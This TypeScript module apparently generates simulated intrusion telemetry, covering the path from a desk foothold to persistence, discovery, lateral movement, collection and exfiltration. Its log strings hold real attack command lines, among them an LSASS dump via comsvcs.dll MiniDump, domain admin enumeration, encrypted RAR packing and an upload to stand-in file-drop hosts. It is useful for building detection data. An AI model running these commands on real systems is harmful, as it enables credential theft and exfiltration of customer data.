import { minuteMs } from '../calendar.ts'
import type { Random } from '../random.ts'
import type { Attack } from './attack.ts'
import type { Account } from './estate.ts'
import { logoff, shareAccess } from './logon.ts'
import { overSmb, remoteService, remoteWmi, type Foot } from './movement.ts'
import { flow, proxied } from './network-log.ts'
import type { World } from './world.ts'

/** Where an intruder stands on a desk, and since when. */
interface Foothold {
  readonly foot: Foot
  readonly user: Account
  readonly at: number
  readonly random: Random
}

/**
 * What follows on a foothold at a desk: it stays, looks around, and either reads what its user may read, or takes an administrator's secrets, goes on
 * to an application server as that one, and reads from there. What was read is packed and leaves.
 */
export function fromDesk(world: World, attack: Attack, hold: Foothold): void {
  const { foot, user, random } = hold
  const desk = user.home
  const relay = `198.51.100.${random.between(150, 199)}`
  const agent = `C:\\Users\\${user.name}\\AppData\\Roaming\\${random.pick(['Updater', 'Sync', 'Helper'])}\\${random.pick(['upd', 'sync', 'hlp'])}64.exe`
  foot.log.create(hold.at + 20_000, foot.process, agent)
  foot.log.setValue(
    hold.at + 25_000,
    foot.process,
    `HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${agent.slice(-9, -6)}`,
    agent,
  )
  const process = foot.log.start(hold.at + 40_000, { image: agent, line: `"${agent}" -k`, parent: foot.process })
  foot.log.connect(hold.at + 42_000, process, { ip: relay, port: 443 })
  attack.stage(hold.at + 25_000, desk, 'persistence')
  const here = { log: foot.log, process }
  const lookAt = hold.at + random.between(20, 50) * minuteMs
  foot.log.start(lookAt, { image: 'net.exe', line: 'net group "Domain Admins" /domain', parent: process })
  foot.log.start(lookAt + 70_000, { image: 'nltest.exe', line: 'nltest /domain_trusts', parent: process })
  attack.stage(lookAt, desk, 'discovery')
  const quiet = random.chance(0.3)
  const at = lookAt + random.between(25, 70) * minuteMs
  const from = quiet ? { foot: here, as: user.user } : onward(world, attack, { ...hold, foot: here, at })
  readAndSend(world, attack, { ...hold, foot: from.foot, at: at + 30 * minuteMs }, { relay, as: from.as })
}

/** Secrets of an administrator, and an application server under that account. Returns where they stand then, and as whom. */
function onward(
  world: World,
  attack: Attack,
  { foot, user, at, random }: Foothold,
): { readonly foot: Foot; readonly as: string } {
  const { estate } = world
  const admin = random.pick(estate.admins)
  const app = random.pick(estate.of('application'))
  const dump = foot.log.start(at, {
    image: 'rundll32.exe',
    line: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\Users\\Public\\m.bin full',
    parent: foot.process,
  })
  foot.log.open(at + 500, dump, 'lsass.exe', '0x1fffff')
  foot.log.create(at + 900, dump, 'C:\\Users\\Public\\m.bin')
  attack.stage(at, user.home, 'credential-access')
  const step = { at: at + 12 * minuteMs, to: app, user: admin.user, protocol: 'NTLM' as const }
  const byService = random.chance(0.5)
  const there = byService
    ? remoteService(world, foot, { ...step, tool: 'C:\\Users\\Public\\p.exe', service: 'SvcUpd', command: 'cmd.exe' })
    : remoteWmi(world, foot, { ...step, command: 'cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt' })
  attack.move(step.at, { from: user.home, to: app, account: admin.user, means: byService ? 'service' : 'wmi' })
  attack.stage(step.at, app, 'lateral-movement')
  return { foot: there, as: admin.user }
}

function readAndSend(
  world: World,
  attack: Attack,
  { foot, user, at, random }: Foothold,
  { relay, as }: { readonly relay: string; readonly as: string },
): void {
  const { estate } = world
  const files = random.pick(estate.of('files'))
  const host = foot.log.host
  const { session, port } = overSmb(world, foot, { at, to: files, user: as, protocol: 'NTLM' })
  const opened = { session, from: host.ip, port, share: 'Care' }
  const count = random.between(20, 45)
  shareAccess(world.on(files), at + 300, opened)
  for (let file = 0; file < count; file++)
    shareAccess(world.on(files), at + 2_000 + file * 7_000, { ...opened, path: `Customers\\2026\\export-${file + 1}.xlsx` })
  logoff(world.on(files), at + 10 * minuteMs, session, 3)
  attack.act(at, { from: host, to: files, account: as, means: 'smb' })
  attack.stage(at, files, 'collection')
  attack.read(files, 'Care\\Customers', ['identity', 'contact', 'contract'])
  const packer = foot.log.start(at + 15 * minuteMs, {
    image: 'C:\\Users\\Public\\r.exe',
    line: `r.exe a -hp${random.hex(8)} -v100m C:\\Users\\Public\\c.rar C:\\Users\\Public\\c`,
    parent: foot.process,
    originalName: 'rar.exe',
  })
  foot.log.create(at + 16 * minuteMs, packer, 'C:\\Users\\Public\\c.part1.rar')
  const bytes = random.between(60_000_000, 300_000_000)
  const proxy = estate.one('proxy')
  const sentAt = at + 25 * minuteMs
  foot.log.connect(sentAt - 2_000, foot.process, { ip: proxy.ip, port: 3128 })
  proxied(world, {
    at: sentAt,
    client: host.ip,
    user: host === user.home ? user.name : '-',
    category: 'File Storage',
    method: 'PUT',
    url: `https://${random.pick(['drop.boxed.example', 'transfer.example'])}/${random.hex(8)}`,
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
    received: 400,
    sent: bytes,
    server: relay,
  })
  flow(world, {
    at: sentAt,
    from: proxy.ip,
    to: relay,
    port: 443,
    sent: bytes + 9_000,
    received: 12_000,
    seconds: 300,
    service: 'ssl',
  })
  attack.sent(bytes)
  attack.stage(sentAt, host, 'exfiltration')
}
